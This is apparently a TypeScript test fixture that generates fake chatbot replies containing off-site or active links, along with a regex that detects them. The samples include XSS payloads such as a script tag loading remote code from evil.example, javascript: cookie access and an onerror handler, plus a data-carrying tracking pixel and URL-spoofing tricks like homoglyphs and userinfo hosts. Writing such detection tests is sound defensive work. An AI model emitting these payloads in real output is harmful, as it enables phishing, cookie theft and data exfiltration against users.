import { lie, type Maker } from './model-scripts-prices.ts'

/** Links that lead away from the shop, or that do something. */
export const links: Maker[] = [
  (_, random) => {
    const say = random.pick([
      '![pixel](https://evil.example/p.png?d=aGVsbG8) Look!',
      '[click here](https://evil.example/win) for your prize.',
      '[pay](javascript:alert(document.cookie)) now.',
      'See https://shop.example.evil.example/x for more.',
      'See https://shop.example@evil.example/x for more.',
      'See hxxps://evil.example/x please.',
      'Go to evil.example/win quickly.',
      'Go to www.evil.example now.',
      '<img src=x onerror=alert(1)> hi',
      '<script src="https://evil.example/a.js"></script> hi',
      '<a href="https://evil.example">our shop</a>',
      'Open //evil.example/path now.',
      'Open data:text/html;base64,PHNjcmlwdD4= now.',
      'Open https://evil\u200b.example/ now.',
      'Open https://ehttps://evil.example/vil.example now.',
      '&lt;img src=x onerror=alert(1)&gt; hi',
      '[ref]\n\n[ref]: https://evil.example/ref',
      'Visit еvil.example (with a Cyrillic letter).',
      'Go to evil(dot)example today.',
    ])
    const core = /evil(?:\(dot\)|\.)example|javascript:|<script|<img|data:text|onerror|vil\.example/.exec(say)?.[0]
    return lie('link', say, core ?? 'evil')
  },
]
